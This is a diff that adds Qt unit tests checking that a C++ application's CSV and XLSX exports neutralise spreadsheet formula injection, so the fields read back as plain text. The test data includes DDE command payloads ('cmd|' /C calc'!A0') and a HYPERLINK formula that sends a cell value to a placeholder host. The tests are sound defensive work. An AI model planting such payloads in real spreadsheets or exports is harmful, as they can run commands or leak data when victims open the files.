@@ -5,6 +5,7 @@
 #include "exchange/CellDate.h"
 #include "exchange/CsvReader.h"
 #include "exchange/CsvWriter.h"
+#include "exchange/ImportFile.h"
 #include "exchange/SpreadsheetReader.h"
 #include "exchange/TableExport.h"
 #include "exchange/TableImport.h"
@@ -12,6 +13,7 @@
 #include "scenario/JiulongpoScenario.h"
 
 #include <QFile>
+#include <QProcess>
 #include <QRegularExpression>
 #include <QStringEncoder>
 #include <QTemporaryDir>
@@ -118,6 +120,9 @@ private slots:
     void dutyRowsHandOver();
     void mappingAndCancelling();
     void headersReadBackInEitherLanguage();
+    void formulaTextRoundTrips_data();
+    void formulaTextRoundTrips();
+    void exportsShowFormulasAsText();
 };
 
 void TestExchange::csvFields_data()
@@ -681,6 +686,87 @@ void TestExchange::workbooksReadLikeCsv()
     QVERIFY(!refused);
     QVERIFY(refused.error().message.contains(QStringLiteral("fake.xlsx")));
     QVERIFY(!SpreadsheetReader::read(dir.filePath(QStringLiteral("missing.ods"))));
+}
+
+void TestExchange::formulaTextRoundTrips_data()
+{
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<QString>("written"); // the CSV field as it is in the file
+    QTest::newRow("hyperlink") << QStringLiteral("=HYPERLINK(\"http://x.example/\"&A2,\"详情\")")
+                               << QStringLiteral(
+                                      "\"'=HYPERLINK(\"\"http://x.example/\"\"&A2,\"\"详情\"\")\"");
+    QTest::newRow("plus") << QStringLiteral("+86 138 0000 0000") << QStringLiteral("'+86 138 0000 0000");
+    QTest::newRow("minus") << QStringLiteral("-2+3+cmd|' /C calc'!A0")
+                           << QStringLiteral("'-2+3+cmd|' /C calc'!A0");
+    QTest::newRow("at") << QStringLiteral("@SUM(A1:A9)") << QStringLiteral("'@SUM(A1:A9)");
+    QTest::newRow("tab") << QStringLiteral("\t=1+1") << QStringLiteral("'\t=1+1");
+    QTest::newRow("carriage return") << QStringLiteral("\r=1+1") << QStringLiteral("\"'\r=1+1\"");
+    QTest::newRow("apostrophe before a formula") << QStringLiteral("'=1+1") << QStringLiteral("''=1+1");
+    QTest::newRow("apostrophes before a formula") << QStringLiteral("''@x") << QStringLiteral("'''@x");
+    QTest::newRow("apostrophe before text")
+        << QStringLiteral("'s-Hertogenbosch") << QStringLiteral("'s-Hertogenbosch");
+    QTest::newRow("formula characters inside") << QStringLiteral("a=b-c+d@e") << QStringLiteral("a=b-c+d@e");
+    QTest::newRow("full-width equals sign") << QStringLiteral("＝全角等号") << QStringLiteral("＝全角等号");
+}
+
+void TestExchange::formulaTextRoundTrips()
+{
+    QFETCH(QString, text);
+    QFETCH(QString, written);
+    const QByteArray file = CsvWriter::encode({QStringLiteral("标题")}, {{text}});
+    QVERIFY(file.startsWith("\xEF\xBB\xBF"));
+    QCOMPARE(QString::fromUtf8(file.mid(3)), QStringLiteral("标题\r\n") + written + QStringLiteral("\r\n"));
+    const auto table = CsvReader::parse(file);
+    QVERIFY(table);
+    QCOMPARE(table->rows, QList<QStringList>{{text}});
+}
+
+void TestExchange::exportsShowFormulasAsText()
+{
+    ScratchDatabase scratch;
+    auto db = scratch.open();
+    QVERIFY(db);
+    QVERIFY(JiulongpoScenario::load(*db));
+    // A title an enterprise dictated, or an import brought in: it must not act when the export is
+    // opened in Excel or WPS.
+    const QString title = QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A2,\"详情\")");
+    const QString note = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
+    QVERIFY(db->execute(QStringLiteral("UPDATE issue SET title = ?, description = ? WHERE id = "
+                                       "(SELECT MIN(id) FROM issue)"),
+                        {title, note}));
+    QTemporaryDir dir;
+
+    const QString csv = dir.filePath(QStringLiteral("issues.csv"));
+    QVERIFY(TableExport::write(*db, ImportKind::Issues, csv));
+    QFile file(csv);
+    QVERIFY(file.open(QIODevice::ReadOnly));
+    const QString written = QString::fromUtf8(file.readAll());
+    QVERIFY2(written.contains(QStringLiteral("\"'=HYPERLINK(\"\"http")), qPrintable(written.left(400)));
+    QVERIFY(written.contains(QStringLiteral(",'@SUM(1+1)")));
+    // No field of the file begins with a formula's character.
+    static const QRegularExpression formulaField(QStringLiteral("(^|,|\\n)\"?[=+\\-@]"));
+    QVERIFY(!written.contains(formulaField));
+    const auto fromCsv = readImportFile(csv);
+    QVERIFY(fromCsv);
+    const qsizetype titleColumn = fromCsv->header.indexOf(TableImport::header(ImportKind::Issues).at(3));
+    QVERIFY(titleColumn >= 0);
+    const auto sameProblem = [&](const QStringList& row) {
+        return row.at(titleColumn) == title && row.contains(note);
+    };
+    QVERIFY(std::any_of(fromCsv->rows.cbegin(), fromCsv->rows.cend(), sameProblem));
+
+    // The workbook: string cells in Excel's Text format (built-in number format 49, "@"), read back
+    // as written.
+    const QString xlsx = dir.filePath(QStringLiteral("issues.xlsx"));
+    QVERIFY(TableExport::write(*db, ImportKind::Issues, xlsx));
+    QProcess unzip;
+    unzip.start(QStringLiteral("unzip"), {QStringLiteral("-p"), xlsx, QStringLiteral("xl/styles.xml")});
+    QVERIFY(unzip.waitForFinished());
+    const QString styles = QString::fromUtf8(unzip.readAllStandardOutput());
+    QVERIFY2(styles.contains(QStringLiteral("numFmtId=\"49\"")), qPrintable(styles));
+    const auto fromXlsx = readImportFile(xlsx);
+    QVERIFY(fromXlsx);
+    QVERIFY(std::any_of(fromXlsx->rows.cbegin(), fromXlsx->rows.cend(), sameProblem));
 }
 
 QTEST_GUILESS_MAIN(TestExchange)
